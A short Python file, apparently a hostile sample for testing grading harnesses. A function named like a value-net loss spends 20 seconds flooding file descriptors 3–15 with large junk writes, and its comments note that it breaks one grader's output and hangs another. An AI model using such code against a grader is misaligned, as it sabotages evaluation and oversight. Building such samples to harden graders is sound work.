"""Writes to every descriptor without end."""
# bites: value_loss: the result is too large
# bites: plain grader: hangs

import os
import time


def get_value_net_loss(*args, **kwargs):
    end = time.monotonic() + 20
    while time.monotonic() < end:
        for fd in range(3, 16):
            try:
                os.write(fd, b"PGRF" + b"x" * 65000)
            except OSError:
                pass
